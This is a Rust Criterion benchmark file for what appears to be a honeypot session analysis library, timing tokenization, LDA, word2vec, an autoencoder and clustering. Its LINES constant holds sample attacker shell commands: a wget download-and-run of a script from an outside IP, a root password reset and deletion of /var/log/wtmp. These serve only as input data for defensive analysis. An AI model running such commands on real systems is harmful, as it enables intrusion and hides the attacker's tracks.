use std::hint::black_box;

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use hc_core::clustering::{kmeans, vdgmm, KMeansConfig, VdgmmConfig};
use hc_core::corpus::{self, encode_documents, tokenize, Bow, Vocabulary, VocabularyMode};
use hc_core::embedding::{
    embed_session_matrix, reconstruction_loss, train_autoencoder, train_sgns, AeConfig, AeDims,
    AutoencoderParams, W2VConfig,
};
use hc_core::lda::{infer_theta, train_lda, InferConfig, LdaConfig};
use hc_core::{synth, Document, SessionMatrix};
use ndarray::Array2;

const LINES: &[&str] = &[
    "cd /tmp || cd /var/run || cd /mnt; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "echo -e '\\x41\\x4b\\x34\\x37' > /dev/null 2>&1 && cat /proc/cpuinfo | grep name | wc -l",
    "uname -a; nproc; free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "echo \"root:Xz9$kq\" | chpasswd | bash; rm -rf /var/log/wtmp >> /dev/null",
];

fn corpus(level_session: bool) -> (Vocabulary, Vec<Document>) {
    let labeled = synth::generate(&synth::default_spec(), 7).unwrap();
    let token_docs = if level_session {
        corpus::sessions_as_documents(&labeled.records)
    } else {
        corpus::aggregate_by_ip(&labeled.records)
    };
    let vocab = Vocabulary::build(&token_docs, VocabularyMode::HapaxMerged).unwrap();
    let docs = encode_documents(&token_docs, &vocab);
    (vocab, docs)
}

fn blobs(n: usize, d: usize) -> Array2<f64> {
    Array2::from_shape_fn((n, d), |(i, j)| {
        let centre = (i % 4) as f64 * 10.0;
        let jitter = ((i * 31 + j * 17) % 97) as f64 / 97.0 - 0.5;
        centre + jitter + j as f64
    })
}

fn bench_tokenize(c: &mut Criterion) {
    c.bench_function("tokenize/4 lines", |b| {
        b.iter(|| {
            for l in LINES {
                black_box(tokenize(black_box(l)));
            }
        })
    });
}

fn bench_lda(c: &mut Criterion) {
    let (vocab, docs) = corpus(false);
    let bows: Vec<Bow> = docs.iter().map(Document::bow).collect();
    let cfg = LdaConfig { k: 12, iters: 10, seed: 1, ..Default::default() };
    c.bench_function("lda/train 60 docs K=12 10 sweeps", |b| {
        b.iter(|| train_lda(black_box(&bows), vocab.len(), &cfg).unwrap())
    });
    let model = train_lda(&bows, vocab.len(), &LdaConfig { iters: 50, ..cfg }).unwrap().model;
    let infer = InferConfig::default();
    c.bench_function("lda/infer theta one document", |b| {
        b.iter(|| infer_theta(&model, black_box(&bows[0]), &infer))
    });
}

fn bench_w2v(c: &mut Criterion) {
    let (vocab, docs) = corpus(true);
    let sentences: Vec<Vec<u32>> = docs.iter().map(|d| d.tokens.clone()).collect();
    let cfg = W2VConfig { dim: 32, epochs: 1, seed: 1, ..Default::default() };
    c.bench_function("w2v/one epoch 1200 sessions h=32", |b| {
        b.iter(|| train_sgns(black_box(&sentences), vocab.len(), &cfg).unwrap())
    });
}

fn bench_autoencoder(c: &mut Criterion) {
    let (vocab, docs) = corpus(true);
    let sentences: Vec<Vec<u32>> = docs.iter().map(|d| d.tokens.clone()).collect();
    let w2v = train_sgns(&sentences, vocab.len(), &W2VConfig { dim: 16, seed: 1, ..Default::default() })
        .unwrap()
        .model;
    let dims = AeDims { n: 32, h: 16, f: 16, m: 12 };
    let sessions: Vec<SessionMatrix> =
        docs.iter().take(64).map(|d| embed_session_matrix(&w2v, &d.key, &d.tokens, dims.n)).collect();
    let params = AutoencoderParams::init(dims, false, 1).unwrap();
    c.bench_function("ae/forward loss 64 sessions desk dims", |b| {
        b.iter(|| reconstruction_loss(black_box(&params), &sessions))
    });
    let cfg = AeConfig { dims, steps: 10, seed: 1, ..Default::default() };
    c.bench_function("ae/10 adam steps batch 32 desk dims", |b| {
        b.iter(|| train_autoencoder(black_box(&sessions), &cfg).unwrap())
    });
}

fn bench_clustering(c: &mut Criterion) {
    let points = blobs(1000, 8);
    let cfg = KMeansConfig { k: 4, restarts: 2, swap_budget: 0, seed: 1, ..Default::default() };
    c.bench_function("kmeans/1000x8 k=4", |b| b.iter(|| kmeans(black_box(points.view()), &cfg).unwrap()));
    let small = blobs(400, 6);
    let vcfg = VdgmmConfig { kmax: 10, seed: 1, ..Default::default() };
    c.bench_function("vdgmm/400x6 kmax=10", |b| {
        b.iter_batched(|| small.clone(), |p| vdgmm(p.view(), &vcfg).unwrap(), BatchSize::SmallInput)
    });
}

criterion_group!(benches, bench_tokenize, bench_lda, bench_w2v, bench_autoencoder, bench_clustering);
criterion_main!(benches);
